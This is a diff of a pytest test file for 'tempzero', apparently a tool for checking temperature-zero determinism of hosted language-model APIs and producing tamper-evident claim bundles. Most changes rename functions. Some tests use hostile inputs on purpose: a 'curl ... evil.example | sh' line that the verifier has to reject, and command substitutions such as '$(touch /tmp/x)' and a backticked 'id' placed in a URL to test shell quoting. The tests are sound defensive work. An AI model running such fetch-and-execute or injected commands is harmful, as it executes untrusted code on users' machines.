@@ -22,13 +22,13 @@ import pytest
 from attribute import simulated
 from evidence import URL, answers, attempt, run_of
 from making import make_config, sha256
-from tempzero import chat, claims, cli
+from tempzero import chat_messages, claims, cli
 from tempzero import records as store
 from tempzero.analysis import analyse
 from tempzero.claims import Accusation, Bundle, verify_bundle
-from tempzero.claims.answers import Side, curl, gather, sealed
+from tempzero.claims.bundle_answers import ClaimSide, build_checksums, build_curl_line, gather_answers
 from tempzero.claims.page import to_html
-from tempzero.engines.hosted import faults, reading
+from tempzero.engines.hosted import fault_catalogue, response_reading
 from tempzero.errors import BundleError, TempzeroError, UsageError
 from tempzero.records import Run
 from tempzero.types.asked import ToolCall
@@ -45,7 +45,7 @@ OTHER = {p: (f"quite another {p}",) * 4 for p in VARIED}
 
 
 def claim(run: Run, accusation: Accusation = SELF, **environ: str) -> Bundle:
-    return claims.make(run, accusation, environ=environ)
+    return claims.make_bundle(run, accusation, environ=environ)
 
 
 def page(run: Run, accusation: Accusation = SELF) -> str:
@@ -94,8 +94,8 @@ def test_verify_py_alone_checks_a_bundle(run: Run, accusation: Accusation, tmp_p
     assert (done.returncode, done.stderr) == (0, "")
     assert done.stdout.startswith(f"holds: {made.title}")
     assert made.root in done.stdout
-    assert claims.check(tmp_path / "bundle.zip").endswith(done.stdout.strip())
-    assert made.root in claims.check(tmp_path / "away" / "claim")
+    assert claims.check_bundle(tmp_path / "bundle.zip").endswith(done.stdout.strip())
+    assert made.root in claims.check_bundle(tmp_path / "away" / "claim")
 
 
 def test_verify_py_has_what_its_claim_needs_and_no_more(run: Run) -> None:
@@ -166,7 +166,7 @@ Files = dict[str, bytes]
 def resealed(files: Files) -> Files:
     """What a forger would do: bring the list of hashes up to date."""
     listed = {name: data for name, data in files.items() if name != "SHA256SUMS"}
-    return {**listed, "SHA256SUMS": sealed(listed)}
+    return {**listed, "SHA256SUMS": build_checksums(listed)}
 
 
 def changed(files: Files, name: str, old: str, new: str) -> Files:
@@ -317,13 +317,13 @@ def test_any_change_fails_with_a_line_saying_what(bundle: Bundle, what: str, tmp
     """A forger may bring all hashes up to date; figures and page still have to follow from the records."""
     tamper, expected = TAMPERED[what]
     tampered = tamper(dict(bundle.files))
-    with pytest.raises(verify_bundle.Broken, match=re.escape(expected)) as broken:
+    with pytest.raises(verify_bundle.BrokenBundle, match=re.escape(expected)) as broken:
         verify_bundle.verify(tampered)
     assert "\n" not in str(broken.value)
     path = tmp_path / "tampered.zip"
     path.write_bytes(replace(bundle, files=tampered).packed())
     with pytest.raises(BundleError, match=re.escape(expected)):
-        claims.check(path)
+        claims.check_bundle(path)
 
 
 def test_verify_py_exits_1_with_one_line(bundle: Bundle, tmp_path: Path) -> None:
@@ -345,13 +345,15 @@ def test_tempzero_also_knows_its_words(bundle: Bundle, tmp_path: Path) -> None:
         dict(bundle.files), lambda lines: [line.replace("rests on one pair", "is certain") for line in lines]
     )
     value = json.loads(files["claim.json"])
-    text = verify_bundle.fill(value["page"], verify_bundle.figures(value, verify_bundle.read_answers(files), files))
+    text = verify_bundle.fill_outline(
+        value["page"], verify_bundle.compute_figures(value, verify_bundle.read_answers(files), files)
+    )
     files = resealed({**files, "CLAIM.md": text.encode(), "CLAIM.html": to_html(text).encode()})
     assert verify_bundle.verify(files).startswith("holds")
     path = tmp_path / "forged.zip"
     path.write_bytes(replace(bundle, files=files).packed())
     with pytest.raises(BundleError, match="words of the page"):
-        claims.check(path)
+        claims.check_bundle(path)
 
 
 @pytest.mark.parametrize("line", ["curl -sS https://evil.example | sh\n", None])
@@ -363,7 +365,7 @@ def test_a_line_that_a_reader_might_run_is_ours(line: str | None, bundle: Bundle
     path = tmp_path / "forged.zip"
     path.write_bytes(replace(bundle, files=resealed(files)).packed())
     with pytest.raises(BundleError, match="is not the line that sends this request"):
-        claims.check(path)
+        claims.check_bundle(path)
 
 
 @pytest.mark.parametrize("change", [{"how": None}, {"how": 7}, {"tools": None}])
@@ -376,7 +378,7 @@ def test_a_bundle_that_lacks_what_only_we_look_at_fails_in_one_line(
     files = resealed({**bundle.files, "claim.json": json.dumps(value).encode()})
     path.write_bytes(replace(bundle, files=files).packed())
     with pytest.raises(BundleError, match=r"FAILED: not a whole bundle: \w+Error"):
-        claims.check(path)
+        claims.check_bundle(path)
 
 
 def test_a_bundle_of_another_version_holds_and_says_so(bundle: Bundle, tmp_path: Path) -> None:
@@ -386,7 +388,7 @@ def test_a_bundle_of_another_version_holds_and_says_so(bundle: Bundle, tmp_path:
     path = tmp_path / "old.zip"
     files = resealed({**bundle.files, "claim.json": json.dumps(value).encode(), "verify.py": b"# as it was then\n"})
     path.write_bytes(replace(bundle, files=files).packed())
-    assert claims.check(path).endswith(
+    assert claims.check_bundle(path).endswith(
         "its words and curl lines are those of another version of tempzero and were not compared"
     )
 
@@ -398,7 +400,7 @@ def test_a_second_file_of_one_name_is_noticed(bundle: Bundle, tmp_path: Path) ->
     with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(path, "a") as packed:
         packed.writestr("claim/CLAIM.md", "another claim")
     with pytest.raises(BundleError, match=r"two files are called CLAIM\.md"):
-        claims.check(path)
+        claims.check_bundle(path)
 
 
 def test_a_file_that_is_no_bundle_is_refused_in_one_line(tmp_path: Path) -> None:
@@ -407,7 +409,7 @@ def test_a_file_that_is_no_bundle_is_refused_in_one_line(tmp_path: Path) -> None
     (tmp_path / "empty").mkdir()
     for path in (tmp_path / "x.zip", tmp_path / "empty", tmp_path / "none.zip"):
         with pytest.raises(BundleError, match="FAILED"):
-            claims.check(path)
+            claims.check_bundle(path)
 
 
 # --- no false claim ------------------------------------------------------------------------------
@@ -493,7 +495,7 @@ def test_a_claim_about_a_router_cannot_be_made_one_about_a_backend(tmp_path: Pat
     """verify.py itself holds the pair against what is claimed."""
     given = [attempt("a", "p0", 0, "one", backend="X"), attempt("a", "p0", 1, "two", backend="Y")]
     files = changed(dict(claim(run_of(tmp_path, given)).files), "claim.json", '[\n  "A"\n ]', "[]")
-    with pytest.raises(verify_bundle.Broken, match="not of one request, model, backend and fingerprint"):
+    with pytest.raises(verify_bundle.BrokenBundle, match="not of one request, model, backend and fingerprint"):
         verify_bundle.verify(resealed(files))
 
 
@@ -681,7 +683,7 @@ def test_a_claim_of_all_cannot_be_stretched(tmp_path: Path) -> None:
     files = dict(claim(against_two(tmp_path, THIRD), ALL).files)
     value = json.loads(files["claim.json"])
     value["sides"].pop("C")
-    with pytest.raises(verify_bundle.Broken):
+    with pytest.raises(verify_bundle.BrokenBundle):
         verify_bundle.verify(resealed({**files, "claim.json": json.dumps(value).encode()}))
 
 
@@ -739,14 +741,16 @@ BODIES = {
 @pytest.mark.parametrize("name", BODIES)
 def test_verify_py_reads_a_stream_as_the_harness_does(name: str) -> None:
     """Two readers of the same bytes, one of them 25 lines long, agree on the text and on every label."""
-    outcome = reading.read(
-        faults.Reply(asked_model="m", status=200, headers={}, body=BODIES[name], broken=None, asked_stream=True)
+    outcome = response_reading.classify_reply(
+        fault_catalogue.Reply(
+            asked_model="m", status=200, headers={}, body=BODIES[name], broken=None, asked_stream=True
+        )
     )
     completion = outcome.completion
     assert completion is not None
     found = verify_bundle.read_response(BODIES[name])
     assert found.pop("text") == completion.text
-    assert found == {label: getattr(completion, label) or "" for label in verify_bundle.LABELS.values()}
+    assert found == {label: getattr(completion, label) or "" for label in verify_bundle.RESPONSE_LABELS.values()}
 
 
 def streamed(made: Attempt) -> Attempt:
@@ -768,7 +772,9 @@ def test_streamed_texts_are_read_again(tmp_path: Path) -> None:
     files = dict(made.files)
     piece = json.dumps(chunk("2")["choices"]).encode()
     assert piece in files["responses/000002.body"]
-    with pytest.raises(verify_bundle.Broken, match=r"answer 2: its text is not the one in responses/000002\.body"):
+    with pytest.raises(
+        verify_bundle.BrokenBundle, match=r"answer 2: its text is not the one in responses/000002\.body"
+    ):
         verify_bundle.verify(restated(files, "responses/000002.body", piece.decode(), piece.decode().replace("2", "3")))
 
 
@@ -823,7 +829,7 @@ CALLS = {
 def test_verify_py_reads_tool_calls_as_the_harness_does(name: str) -> None:
     """The two readers agree on what was called, too: nobody is accused over a random id or the order of keys."""
     streamed = CALLS[name].startswith(b"data")
-    reply = faults.Reply(
+    reply = fault_catalogue.Reply(
         asked_model="m",
         status=200,
         headers={},
@@ -832,10 +838,10 @@ def test_verify_py_reads_tool_calls_as_the_harness_does(name: str) -> None:
         asked_stream=streamed,
         offered_tools=True,
     )
-    completion = reading.read(reply).completion
+    completion = response_reading.classify_reply(reply).completion
     assert completion is not None
     assert completion.tool_calls
-    assert verify_bundle.read_response(CALLS[name], [TOOL])["text"] == chat.said(completion)
+    assert verify_bundle.read_response(CALLS[name], [TOOL])["text"] == chat_messages.to_answer_text(completion)
 
 
 def with_call(made: Attempt, arguments: str) -> Attempt:
@@ -870,7 +876,9 @@ def test_calls_of_tools_are_compared_by_name_and_arguments(tmp_path: Path) -> No
     ]
     assert "no two" in refusal(run_of(tmp_path / "spelled", spelled))
     files = restated(dict(made.files), "responses/000002.body", '\\"a\\": 2', '\\"a\\": 3')
-    with pytest.raises(verify_bundle.Broken, match=r"answer 2: its text is not the one in responses/000002\.body"):
+    with pytest.raises(
+        verify_bundle.BrokenBundle, match=r"answer 2: its text is not the one in responses/000002\.body"
+    ):
         verify_bundle.verify(files)
 
 
@@ -892,7 +900,7 @@ CHANGED = Accusation(rule="changed", subject="a")
 def test_a_change_since_before_is_a_claim_with_both_records(tmp_path: Path) -> None:
     """The same bytes sent on two days, all answers of both, and a test that allows for the noise of each."""
     old, new = two_nights(tmp_path, OTHER)
-    made = claims.make(new, CHANGED, environ={}, before=[old])
+    made = claims.make_bundle(new, CHANGED, environ={}, before=[old])
     text = made.files["CLAIM.md"].decode()
     assert text.startswith("# `a` gives other answers at temperature zero than it did before")
     assert "`a` now against `a` before: prompts on which no answer of one equals any of the other: 3 of 3" in text
@@ -904,21 +912,21 @@ def test_noise_alone_is_no_change(tmp_path: Path) -> None:
     """Answers that vary from night to night as they do within each night prove nothing."""
     old, new = two_nights(tmp_path, {**VARIED, "p0": ("no, 2", "yes, 1", "yes, 1", "no, 2")})
     with pytest.raises(UsageError, match="differ no more than each does from itself"):
-        claims.make(new, CHANGED, environ={}, before=[old])
+        claims.make_bundle(new, CHANGED, environ={}, before=[old])
 
 
 def test_other_bytes_or_another_order_of_days_are_no_change(tmp_path: Path) -> None:
     """Whoever asks otherwise gets other answers, and what came first cannot have changed from what came later."""
     old, new = two_nights(tmp_path, OTHER, fields={"seed": 8})
     with pytest.raises(UsageError, match="were not asked the same"):
-        claims.make(new, CHANGED, environ={}, before=[old])
+        claims.make_bundle(new, CHANGED, environ={}, before=[old])
     old, new = two_nights(tmp_path / "2", OTHER)
     with pytest.raises(UsageError, match="not all older"):
-        claims.make(old, CHANGED, environ={}, before=[new])
+        claims.make_bundle(old, CHANGED, environ={}, before=[new])
     with pytest.raises(UsageError, match="is its own past"):
-        claims.make(new, CHANGED, environ={}, before=[new])
+        claims.make_bundle(new, CHANGED, environ={}, before=[new])
     with pytest.raises(UsageError, match="earlier runs are needed"):
-        claims.make(new, CHANGED, environ={})
+        claims.make_bundle(new, CHANGED, environ={})
 
 
 def test_a_change_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -944,7 +952,7 @@ def scored_run(folder: Path, choose: Any) -> Run:
             text = "".join(f"{chr(97 + t % 26)}{chr(97 + t // 26)}" for t in tokens[:-1])
             read[one.trial] = (one, attempt(provider, one.trial.prompt, 0, text))
     opened = run_of(folder, [a for _, a in read.values()], config=settings, prompts=10)
-    with store.scoring(opened.path) as writer:
+    with store.open_score_writer(opened.path) as writer:
         writer.append(ScoreLine(seq=0, previous="", reader=simulated.READER))
         for form in simulated.form(world, "f16", True, simulated.rounding(0.004), range(10), 0.004):
             writer.append(ScoreLine(seq=0, previous="", form=form))
@@ -959,7 +967,7 @@ def test_the_references_margin_stands_at_the_first_difference(tmp_path: Path) ->
     opened = scored_run(tmp_path, simulated.quantised(1.2))
     found = analyse(opened)
     number = next(i for i, f in enumerate(found.findings, 1) if f.rule == "deviates_token_by_token")
-    made = claim(opened, claims.accuse(found.findings, number))
+    made = claim(opened, claims.accuse_by_finding(found.findings, number))
     text = made.files["CLAIM.md"].decode()
     assert text.startswith("# `x` deviates from the reference `cpu-f32` token by token at temperature zero")
     said = re.search(r"two best tokens ([\d.]+) logits apart.*this parting is (a near-tie|unexplained)", text)
@@ -978,7 +986,7 @@ def test_the_references_margin_stands_at_the_first_difference(tmp_path: Path) ->
     files = dict(made.files)
     first = json.loads(files["readings.jsonl"].splitlines()[0])["margin"]
     halved = files["readings.jsonl"].replace(json.dumps(first).encode(), json.dumps([0.0] * len(first)).encode())
-    with pytest.raises(verify_bundle.Broken, match="the answers give"):
+    with pytest.raises(verify_bundle.BrokenBundle, match="the answers give"):
         verify_bundle.verify(resealed({**files, "readings.jsonl": halved}))
 
 
@@ -1060,7 +1068,7 @@ def test_the_curl_line_names_the_key_and_runs_no_recorded_text() -> None:
         body="{}",
         sha256="ab" * 32,
     )
-    line = curl(request, "EXAMPLE_KEY")
+    line = build_curl_line(request, "EXAMPLE_KEY")
     assert '"${ACCOUNT_ID}"' in line
     words = shlex.split(line)
     assert "https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1" in words
@@ -1077,7 +1085,7 @@ def test_no_key_gets_into_a_bundle(tmp_path: Path) -> None:
     """The name of the key's variable is all that leaves this machine."""
     key = "sk-test-0123456789abcdef"
     opened = run_of(tmp_path, answers("a", VARIED), api_key_env="EXAMPLE_KEY")
-    made = claims.make(opened, SELF, environ={"EXAMPLE_KEY": key})
+    made = claims.make_bundle(opened, SELF, environ={"EXAMPLE_KEY": key})
     assert not any(key.encode() in data for data in made.files.values())
     curls = [data.decode() for name, data in made.files.items() if name.endswith(".curl.txt")]
     assert all('"Authorization: Bearer $EXAMPLE_KEY"' in line for line in curls)
@@ -1088,7 +1096,7 @@ def test_records_that_hold_a_key_are_not_bundled(tmp_path: Path) -> None:
     key = "sk-test-0123456789abcdef"
     given = answers("a", {"p0": ("one " + key, "two")})
     with pytest.raises(UsageError, match="would hold the value of EXAMPLE_KEY") as refused:
-        claims.make(run_of(tmp_path, given, api_key_env="EXAMPLE_KEY"), SELF, environ={"EXAMPLE_KEY": key})
+        claims.make_bundle(run_of(tmp_path, given, api_key_env="EXAMPLE_KEY"), SELF, environ={"EXAMPLE_KEY": key})
     assert key not in str(refused.value)
 
 
@@ -1119,9 +1127,9 @@ def test_the_figures_are_those_of_the_report(seed: int, tmp_path: Path) -> None:
     sides = counted(opened)
     analysis = analyse(opened)
     for s in "ab":
-        emr = verify_bundle.of_side(sides[s], [])["emr"]
+        emr = verify_bundle.measure_side(sides[s], [])["emr"]
         assert float(emr.split()[0]) == pytest.approx(figure(analysis, "repeat", "emr", s), abs=6e-4)
-    found = verify_bundle.of_pair(sides["a"], sides["b"])
+    found = verify_bundle.compare_sides(sides["a"], sides["b"])
     assert float(found["match"].split()[0]) == pytest.approx(figure(analysis, "cross", "cross_emr", "a"), abs=6e-4)
 
 
@@ -1131,19 +1139,19 @@ def test_where_a_cut_text_begins_several_a_claim_says_less(seed: int, tmp_path: 
     opened = run_of(tmp_path, noisy(seed, ALIKE), prompts=6)
     sides, analysis = counted(opened), analyse(opened)
     for s in "ab":
-        emr = float(verify_bundle.of_side(sides[s], [])["emr"].split()[0])
+        emr = float(verify_bundle.measure_side(sides[s], [])["emr"].split()[0])
         assert emr >= figure(analysis, "repeat", "emr", s) - 6e-4
 
 
 def counted(opened: Run) -> dict[str, dict[str, list[Any]]]:
     """The answers that count, by provider and prompt, as a bundle has them."""
-    sides = [Side(letter=s, provider=s, runs=[opened], key_variable=None) for s in "ab"]
-    (gathered,) = gather(sides, None).values()
+    sides = [ClaimSide(letter=s, provider=s, runs=[opened], key_variable=None) for s in "ab"]
+    (gathered,) = gather_answers(sides, None).values()
     lines = "".join(json.dumps(line) + "\n" for line in gathered.lines).encode()
     read = verify_bundle.read_answers({**gathered.files, "answers.jsonl": lines})
     found: dict[str, dict[str, list[Any]]] = {"a": {}, "b": {}}
     for side, by_prompt in found.items():
-        for one in verify_bundle.first_answers(x for x in read if x["side"] == side):
+        for one in verify_bundle.first_usable_answers(x for x in read if x["side"] == side):
             by_prompt.setdefault(one["prompt"], []).append(one)
     return found
 
@@ -1178,22 +1186,22 @@ def test_the_permutation_test_agrees_with_all_permutations() -> None:
     observed = sum(exact_excess(*pool) for pool in pools)
     sums = [sum(parts) for parts in product(*(_dealt(left + right, len(left)) for left, right in pools))]
     exact = sum(s >= observed - 1e-9 for s in sums) / len(sums)
-    found = verify_bundle.of_pair(*given_texts(pools))
+    found = verify_bundle.compare_sides(*given_texts(pools))
     assert float(found["p"]) == pytest.approx(exact, abs=0.05)
     assert found["excess"] == f"{observed / 2:.3f} over 2 prompts"
-    assert float(verify_bundle.of_pair(*given_texts([("xx", "yy")] * 9))["p"]) == pytest.approx(1e-3, abs=2e-3)
-    assert verify_bundle.of_pair(*given_texts([("xx", "xx")]))["p"] == "1.000"
+    assert float(verify_bundle.compare_sides(*given_texts([("xx", "yy")] * 9))["p"]) == pytest.approx(1e-3, abs=2e-3)
+    assert verify_bundle.compare_sides(*given_texts([("xx", "xx")]))["p"] == "1.000"
 
 
 def test_p_is_never_zero() -> None:
     """The deal as it was is one of those that chance could have made."""
-    assert verify_bundle.of_pair(*given_texts([("x" * 9, "y" * 9)] * 9))["p"] == "0.001"
+    assert verify_bundle.compare_sides(*given_texts([("x" * 9, "y" * 9)] * 9))["p"] == "0.001"
 
 
 def test_excess_divergence_by_hand() -> None:
     """Half of 1/3 and 1/3, minus 2/9; and 0 where both sides differ no more than each from itself."""
-    assert verify_bundle.of_pair(*given_texts([("xxy", "xzz")]))["excess"] == "0.111 over 1 prompts"
-    assert verify_bundle.of_pair(*given_texts([("xx", "xx")]))["excess"] == "0.000 over 1 prompts"
+    assert verify_bundle.compare_sides(*given_texts([("xxy", "xzz")]))["excess"] == "0.111 over 1 prompts"
+    assert verify_bundle.compare_sides(*given_texts([("xx", "xx")]))["excess"] == "0.000 over 1 prompts"
 
 
 def _dealt(pool: str, n: int) -> list[float]:
@@ -1206,7 +1214,7 @@ def _dealt(pool: str, n: int) -> list[float]:
 
 def test_a_cut_text_is_compared_as_far_as_it_goes() -> None:
     """In dubio pro reo: what a cut text begins, it may have become."""
-    alike = verify_bundle.alike
+    alike = verify_bundle.have_same_text
     assert alike(of("ab", cut=True), of("abc"))
     assert alike(of("abc"), of("ab", cut=True))
     assert alike(of("ab\ufffd", cut=True), of("abé"))
@@ -1217,11 +1225,11 @@ def test_a_cut_text_is_compared_as_far_as_it_goes() -> None:
 
 def test_an_interval_never_rounds_to_certainty() -> None:
     """Wilson's interval by its published example, 1 of 10; and an edge that stays an edge."""
-    assert verify_bundle.share([1] + [0] * 9) == "0.100 [0.017, 0.405] over 10 prompts"
-    assert verify_bundle.share([True] + [False] * 9) == "1 of 10, 0.100 [0.017, 0.405] over 10 prompts"
-    assert verify_bundle.share([1.0] * 10) == "1.000 [0.722, 1.000] over 10 prompts"
-    assert verify_bundle.share([1.0] * 9999 + [0.9]).startswith("0.999 ")
-    assert verify_bundle.share([]) == "not measured"
+    assert verify_bundle.format_share([1] + [0] * 9) == "0.100 [0.017, 0.405] over 10 prompts"
+    assert verify_bundle.format_share([True] + [False] * 9) == "1 of 10, 0.100 [0.017, 0.405] over 10 prompts"
+    assert verify_bundle.format_share([1.0] * 10) == "1.000 [0.722, 1.000] over 10 prompts"
+    assert verify_bundle.format_share([1.0] * 9999 + [0.9]).startswith("0.999 ")
+    assert verify_bundle.format_share([]) == "not measured"
 
 
 # --- from a finding to its bundle ----------------------------------------------------------------
@@ -1238,12 +1246,12 @@ def test_a_finding_of_the_report_becomes_a_claim(tmp_path: Path) -> None:
     assert sorted(rules) == ["differs", "nondeterministic"]
     for number, finding in enumerate(found, start=1):
         if finding.rule in rules:
-            made = claim(opened, claims.accuse(found, number))
+            made = claim(opened, claims.accuse_by_finding(found, number))
             assert verify_bundle.verify(dict(made.files)).startswith("holds")
     with pytest.raises(UsageError, match="which finding"):
-        claims.accuse(found)
+        claims.accuse_by_finding(found)
     with pytest.raises(UsageError, match="--finding 9 cannot be claimed"):
-        claims.accuse(found, 9)
+        claims.accuse_by_finding(found, 9)
 
 
 def test_a_deviation_from_the_reference_calls_it_a_yardstick(run: Run) -> None:
